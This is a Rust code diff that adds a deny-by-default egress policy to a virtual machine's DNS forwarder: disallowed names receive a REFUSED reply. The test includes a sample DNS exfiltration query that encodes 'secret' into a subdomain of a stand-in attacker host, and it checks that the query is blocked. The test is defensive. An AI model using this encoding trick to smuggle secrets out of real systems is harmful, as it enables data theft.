@@ -17,10 +17,29 @@ use hickory_proto::rr::{Name, RData, RecordType};
 use tokio::net::UdpSocket;
 use tokio::sync::Semaphore;
 
-use super::policy::Destination;
+use super::policy::{allow_all, Compiled};
 
-/// The hostname sets of one VM's policy, shared with its forwarder.
-pub(crate) type HostSets = Arc<std::sync::RwLock<Vec<(String, Destination)>>>;
+/// The policy in force on one VM, shared with its forwarder.
+pub(crate) type HostSets = Arc<std::sync::RwLock<Compiled>>;
+
+/// What a VM's forwarder starts with: everything resolves.
+pub(crate) fn open_hosts() -> HostSets {
+    Arc::new(std::sync::RwLock::new(allow_all()))
+}
+
+/// The question's name of a DNS query.
+fn query_name(msg: &[u8]) -> Option<String> {
+    let msg = Message::from_vec(msg).ok()?;
+    Some(msg.queries.first()?.name().to_ascii())
+}
+
+/// `query` answered REFUSED (RCODE 5), nothing else changed.
+fn refused(query: &[u8]) -> Vec<u8> {
+    let mut r = query.to_vec();
+    r[2] |= 0x80;
+    r[3] = (r[3] & 0xf0) | 5;
+    r
+}
 
 /// Queries of one VM being answered at once; more are dropped (the guest
 /// retries, as over any lossy network).
@@ -74,6 +93,14 @@ pub(crate) async fn serve(
             let (sock, upstreams, hosts) = (sock.clone(), upstreams.clone(), hosts.clone());
             tokio::spawn(async move {
                 let _permit = permit;
+                let resolves = match query_name(&query) {
+                    Some(name) => hosts.read().map(|h| h.resolves(&name)).unwrap_or(false),
+                    None => false,
+                };
+                if !resolves {
+                    let _ = sock.send_to(&refused(&query), peer).await;
+                    return;
+                }
                 if let Some(answer) = ask(&query, &upstreams).await {
                     follow(&hosts, &answer).await;
                     let _ = sock.send_to(&answer, peer).await;
@@ -88,18 +115,17 @@ pub(crate) async fn serve(
 async fn follow(hosts: &HostSets, answer: &[u8]) {
     let sets: Vec<String> = {
         let Ok(hosts) = hosts.read() else { return };
-        if hosts.is_empty() {
+        if hosts.host_rules.is_empty() {
             return;
         }
-        let Ok(msg) = Message::from_vec(answer) else {
+        let Some(name) = query_name(answer) else {
             return;
         };
-        let Some(q) = msg.queries.first() else { return };
-        let name = q.name().to_ascii();
         hosts
+            .host_rules
             .iter()
-            .filter(|(_, d)| d.matches_name(&name))
-            .map(|(set, _)| set.clone())
+            .filter(|r| r.dest.matches_name(&name))
+            .map(|r| r.set.clone())
             .collect()
     };
     if sets.is_empty() {
@@ -213,10 +239,16 @@ mod tests {
         });
         let listen: Ipv4Addr = "127.0.0.77".parse().unwrap();
         let guest: Ipv4Addr = "127.0.0.78".parse().unwrap();
-        let task = serve(listen, guest, vec![up_addr], HostSets::default())
+        let hosts = open_hosts();
+        let task = serve(listen, guest, vec![up_addr], hosts.clone())
             .await
             .unwrap();
-        let query = b"\x12\x34rest-of-a-query".to_vec();
+        let query_for = |name: &str| {
+            let mut q = Message::new(0x1234, MessageType::Query, OpCode::Query);
+            q.add_query(Query::query(Name::from_ascii(name).unwrap(), RecordType::A));
+            q.to_vec().unwrap()
+        };
+        let query = query_for("api.example.com");
 
         let g = UdpSocket::bind((guest, 0)).await.unwrap();
         g.send_to(&query, (listen, 53)).await.unwrap();
@@ -231,6 +263,26 @@ mod tests {
         stranger.send_to(&query, (listen, 53)).await.unwrap();
         let r = tokio::time::timeout(Duration::from_millis(500), stranger.recv(&mut b)).await;
         assert!(r.is_err(), "a query from another address is not answered");
+
+        // Under a deny policy, only the names allowed by name resolve; the
+        // rest are refused here and never reach the upstream.
+        let policy: super::super::EgressPolicy = serde_json::from_str(
+            r#"{"default_effect":"deny","rules":[{"effect":"allow","destination":"api.example.com"}]}"#,
+        )
+        .unwrap();
+        *hosts.write().unwrap() = policy.compile(9).unwrap();
+        g.send_to(&query, (listen, 53)).await.unwrap();
+        let n = g.recv(&mut b).await.unwrap();
+        assert!(b[..n].ends_with(b"answer"), "allowed by name");
+        let exfil = query_for("c2VjcmV0.attacker.example");
+        g.send_to(&exfil, (listen, 53)).await.unwrap();
+        let n = tokio::time::timeout(Duration::from_secs(5), g.recv(&mut b))
+            .await
+            .unwrap()
+            .unwrap();
+        assert!(!b[..n].ends_with(b"answer"), "never relayed");
+        assert_eq!(b[3] & 0x0f, 5, "REFUSED");
+        assert_eq!(b[..2], exfil[..2]);
         task.abort();
     }
 }
